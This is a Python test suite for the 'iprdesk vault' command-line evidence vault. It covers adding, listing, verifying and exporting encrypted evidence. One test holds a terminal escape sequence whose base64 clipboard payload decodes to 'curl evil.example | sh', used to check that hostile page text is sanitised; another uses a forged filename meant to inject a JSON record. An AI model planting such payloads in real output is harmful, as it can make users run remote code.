"""`iprdesk vault ...` end to end (appeal bundles: tests/test_bundle.py)."""

import hashlib
import json
import re
from io import BytesIO

import pytest
from click.testing import CliRunner
from PIL import Image

from iprdesk.cli import main
from iprdesk.vault import Vault
from tests.conftest import VAULT_PASSPHRASE, fill_disk
from tests.helpers import iprdesk, open_case


def run(home, *args, env=None, input=None, code=0):
    result = CliRunner().invoke(main, [*args, "--home", str(home)], env=env, input=input)
    assert result.exit_code == code, (result.output, result.exception)
    return result


def png(color=(200, 30, 30), size=(640, 400)) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


@pytest.fixture
def env():
    return {"IPRDESK_PASSPHRASE": VAULT_PASSPHRASE}


def test_init_then_everything_through_the_real_cli(home, tmp_path):
    secret = tmp_path / "pass.txt"
    secret.write_text("a long passphrase\n")
    done = iprdesk("vault", "init", "--passphrase-file", str(secret), "--lang", "zh_CN", home=home)
    assert "Argon2id" in done.stdout and "证据库已创建" in done.stdout
    assert "Vault created" not in done.stdout
    again = iprdesk("vault", "init", "--passphrase-file", str(secret), home=home, check=False)
    assert again.returncode == 1 and "already exists" in again.stderr
    receipt = tmp_path / "付款凭证.pdf"
    receipt.write_bytes(b"%PDF-1.4 bank slip")
    case = open_case(home, "C-1")  # named by its complaint ID below
    added = json.loads(iprdesk("vault", "add", str(receipt), "--case", "C-1", "--kind", "payment",
                               "--json", home=home).stdout)
    assert added[0]["sha256"] == hashlib.sha256(b"%PDF-1.4 bank slip").hexdigest()
    wrong = iprdesk("vault", "list", home=home, check=False,
                    env={"IPRDESK_PASSPHRASE": "not it at all"})
    assert wrong.returncode == 1
    assert wrong.stderr.strip() == "error: Wrong passphrase for the evidence vault."
    wrong = iprdesk("vault", "list", home=home, check=False,
                    env={"IPRDESK_PASSPHRASE": "not it at all", "LANG": "zh_CN.UTF-8"})
    assert wrong.returncode == 1 and wrong.stderr.strip() == "error: 证据库密码不正确。"
    assert "Traceback" not in wrong.stderr
    listed = json.loads(iprdesk("vault", "list", "--json", home=home,
                                env={"IPRDESK_PASSPHRASE": "a long passphrase"}).stdout)
    assert [(i["id"], i["kind"], i["case"], i["original_name"]) for i in listed] == [
        (added[0]["id"], "payment", case.id, "付款凭证.pdf")]


def test_add_list_show_get_delete(vault_home, tmp_path, env):
    shot, page = tmp_path / "shot.png", tmp_path / "complaint.mhtml"
    shot.write_bytes(png())
    page.write_bytes(b"MIME-Version: 1.0\r\n\r\npage")
    c9, c10 = open_case(vault_home, "C-9"), open_case(vault_home, "C-10")
    out = run(vault_home, "vault", "add", str(shot), str(page), "--case", "C-9", "--note",
              "before fix", "--product", "P1", "--product", "P2").output
    ids = re.findall(r"^([0-9a-f]{16}) ", out, re.M)
    assert len(ids) == 2 and "page" in out  # .mhtml is guessed as a web page
    listed = json.loads(run(vault_home, "vault", "list", "--case", "C-9", "--json",
                            env=env).output)
    assert {i["id"] for i in listed} == set(ids)
    assert {i["case"] for i in listed} == {c9.id}
    # An unknown case is an error naming the open cases, not an empty list.
    unknown = run(vault_home, "vault", "list", "--case", "nope", "--json", env=env,
                  code=1).output
    assert "No case nope" in unknown and f"{c9.id} (C-9, Bright Lens Studio LLC)" in unknown
    shown = json.loads(run(vault_home, "vault", "show", ids[0][:6], "--json", env=env).output)
    assert shown["product_ids"] == ["P1", "P2"] and shown["note"] == "before fix"
    assert shown["content_type"] == "image/png"
    target = tmp_path / "out.png"
    run(vault_home, "vault", "get", ids[0], "-o", str(target), env=env)
    assert target.read_bytes() == shot.read_bytes()
    relabelled = json.loads(run(vault_home, "vault", "label", ids[1], "--case", c10.id,
                                "--json", env=env).output)
    assert relabelled["case"] == c10.id and relabelled["kind"] == "page"
    ids[1] = relabelled["id"]
    nothing = run(vault_home, "vault", "label", ids[1], env=env, code=2)  # a usage error
    assert "say what to change" in nothing.output
    run(vault_home, "vault", "delete", ids[1], "--yes", env=env)
    assert len(json.loads(run(vault_home, "vault", "list", "--json", env=env).output)) == 1
    missing = run(vault_home, "vault", "show", "ffff", env=env, code=1)
    assert "No evidence with id ffff" in missing.output


def test_the_listing_byte_for_byte(vault, vault_home, env, local_zone):
    """`vault list` and its --json as they were before the listing was made fast (issue 16):
    each row's spacing, the local time with its zone in each language (a zone whose offset
    changes within the list), --utc, null fields, a page's text made printable, the order."""
    local_zone("America/New_York")
    slip = vault.add(b"slip", {"kind": "payment", "case": "c-0123456789abcdef",
                               "original_name": "付款凭证.pdf",
                               "captured_at": "2026-07-01T09:30:00Z"})
    shot = vault.add(b"shot", {"kind": "screenshot", "page_title": "Complaint\x1b[2J",
                               "captured_at": "2026-03-01T09:30:05Z"})
    page = vault.add(b"page", {"kind": "page", "case": "C-1",
                               "captured_at": "2026-03-01T09:30:05Z"})
    sha = {i: hashlib.sha256(data).hexdigest()[:12]
           for i, data in ((slip, b"slip"), (shot, b"shot"), (page, b"page"))}
    # Oldest capture first; the two of one second by when they were added, then by id.
    first, second = sorted([shot, page], key=lambda i: (vault.item(i).added_at, i))
    rows = {
        "en": {shot: f"{shot}  2026-03-01 04:30 (UTC-5)  screenshot  -             {sha[shot]}  "
                     "Complaint\\x1b[2J",
               page: f"{page}  2026-03-01 04:30 (UTC-5)  page        C-1           {sha[page]}  ",
               slip: f"{slip}  2026-07-01 05:30 (UTC-4)  payment     c-0123456789abcdef  "
                     f"{sha[slip]}  付款凭证.pdf"},
        "zh_CN": {shot: f"{shot}  2026年3月1日 04:30（UTC-5）  screenshot  -             "
                        f"{sha[shot]}  Complaint\\x1b[2J",
                  page: f"{page}  2026年3月1日 04:30（UTC-5）  page        C-1           "
                        f"{sha[page]}  ",
                  slip: f"{slip}  2026年7月1日 05:30（UTC-4）  payment     c-0123456789abcdef  "
                        f"{sha[slip]}  付款凭证.pdf"},
        "utc": {shot: f"{shot}  2026-03-01T09:30:05Z  screenshot  -             {sha[shot]}  "
                      "Complaint\\x1b[2J",
                page: f"{page}  2026-03-01T09:30:05Z  page        C-1           {sha[page]}  ",
                slip: f"{slip}  2026-07-01T09:30:00Z  payment     c-0123456789abcdef  "
                      f"{sha[slip]}  付款凭证.pdf"}}
    for how, args in (("en", []), ("zh_CN", ["--lang", "zh_CN"]), ("utc", ["--utc"])):
        assert run(vault_home, *args, "vault", "list", env=env).stdout == "".join(
            rows[how][i] + "\n" for i in (first, second, slip)), how
    json_rows = {
        shot: f'{{"id": "{shot}", "sha256": "{vault.item(shot).sha256}", "kind": "screenshot", '
              '"case": null, "original_name": null, "size": 4, '
              '"captured_at": "2026-03-01T09:30:05Z"}',
        page: f'{{"id": "{page}", "sha256": "{vault.item(page).sha256}", "kind": "page", '
              '"case": "C-1", "original_name": null, "size": 4, '
              '"captured_at": "2026-03-01T09:30:05Z"}',
        slip: f'{{"id": "{slip}", "sha256": "{vault.item(slip).sha256}", "kind": "payment", '
              '"case": "c-0123456789abcdef", "original_name": "付款凭证.pdf", "size": 4, '
              '"captured_at": "2026-07-01T09:30:00Z"}'}
    assert run(vault_home, "vault", "list", "--json", env=env).stdout == (
        "[\n" + ",\n".join("  " + json_rows[i] for i in (first, second, slip)) + "\n]\n")
    assert run(vault_home, "vault", "list", "--kind", "other", "--json", env=env).stdout \
        == "[]\n"


def test_a_name_holding_what_separates_records_keeps_one_record_a_line(vault, vault_home, env):
    """--json writes the array in one encoding and breaks the line where records meet; a name
    holding that very text is not broken."""
    forged = 'a}, {"id": "0000000000000000"}, {b.pdf'
    ids = [vault.add(b"one", {"kind": "other", "original_name": forged,
                              "captured_at": "2026-03-01T09:30:00Z"}),
           vault.add(b"two", {"kind": "other", "captured_at": "2026-03-01T09:31:00Z"})]
    out = run(vault_home, "vault", "list", "--json", env=env).stdout
    lines = out.splitlines()
    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == 4
    assert [json.loads(line.rstrip(",")) for line in lines[1:3]] == json.loads(out)
    assert [(r["id"], r["original_name"]) for r in json.loads(out)] == [(ids[0], forged),
                                                                        (ids[1], None)]


def test_cli_errors_are_one_line(home, vault_home, tmp_path, env):
    empty = tmp_path / "empty-home"
    empty.mkdir()
    result = run(empty, "vault", "list", env=env, code=1)
    assert "vault init" in result.output
    result = run(vault_home, "vault", "export", "--case", "none", "-o", str(tmp_path / "b.zip"),
                 env=env, code=1)
    assert result.output.count("\n") == 1 and "No case none, and no case is open" in result.output
    empty_case = open_case(vault_home, "CMP-EMPTY")
    result = run(vault_home, "vault", "export", "--case", "CMP-EMPTY", "-o",
                 str(tmp_path / "b.zip"), env=env, code=1)
    assert f"no evidence for case {empty_case.id}" in result.output
    assert not (tmp_path / "b.zip").exists()


def test_passwd_with_files(vault_home, tmp_path):
    old, new = tmp_path / "old", tmp_path / "new"
    old.write_text(VAULT_PASSPHRASE + "\n")
    new.write_text("brand new passphrase\n")
    run(vault_home, "vault", "add", str(old))
    run(vault_home, "vault", "passwd", "--passphrase-file", str(old), "--new-passphrase-file",
        str(new))
    run(vault_home, "vault", "list", "--passphrase-file", str(old), code=1)
    listed = run(vault_home, "vault", "list", "--json", "--passphrase-file", str(new)).output
    assert len(json.loads(listed)) == 1


def test_verify_names_damage_and_exits_1(vault_home, tmp_path, env):
    f = tmp_path / "a.txt"
    f.write_text("evidence")
    object_id = run(vault_home, "vault", "add", str(f)).output.split()[0]
    assert "OK: 1 objects" in run(vault_home, "vault", "verify").output
    assert "decrypted" in run(vault_home, "vault", "verify", "--deep", env=env).output
    path = Vault.location(vault_home) / "objects" / object_id
    data = bytearray(path.read_bytes())
    data[-40] ^= 0xFF
    path.write_bytes(bytes(data))
    out = run(vault_home, "vault", "verify", code=1).output
    assert f"DAMAGED: object {object_id} was altered" in out
    listed = run(vault_home, "vault", "list", env=env)
    assert "1 item could not be read" in listed.output
    report = json.loads(run(vault_home, "vault", "verify", "--deep", "--json", env=env,
                            code=1).output)
    assert any("metadata fails authentication" in p for p in report["problems"])


# Text that came from a web page or a stranger's bundle: an OSC 52 sequence asks the terminal
# to put text on the clipboard, others retitle or clear it.
TERMINAL_ESCAPE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x9b31m"


def test_page_text_cannot_drive_the_terminal(vault, vault_home, env):
    vault.add(b"shot", {"kind": "screenshot", "page_title": f"Complaint{TERMINAL_ESCAPE}",
                        "note": f"note{TERMINAL_ESCAPE}"})
    listed = CliRunner().invoke(main, ["vault", "list", "--home", str(vault_home)], env=env)
    item = vault.list()[0]
    shown = CliRunner().invoke(main, ["vault", "show", item.id, "--home", str(vault_home)],
                               env=env)
    for result in (listed, shown):
        assert result.exit_code == 0, result.output
        assert "Complaint" in result.output
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.output), result.output


def test_export_to_a_full_disk_is_a_clean_error(vault_home, tiny_disk, env, tmp_path):
    shot = tmp_path / "shot.png"
    shot.write_bytes(png())
    open_case(vault_home, "C-1")
    run(vault_home, "vault", "add", "--case", "C-1", str(shot), env=env)
    fill_disk(tiny_disk)
    result = run(vault_home, "vault", "export", "--case", "C-1", "-o",
                 str(tiny_disk / "bundle.zip"), env=env, code=1)
    assert result.output.startswith("error: The disk is full: the bundle was not made")
    assert "Traceback" not in result.output
    assert sorted(p.name for p in tiny_disk.iterdir()) == ["filler"]
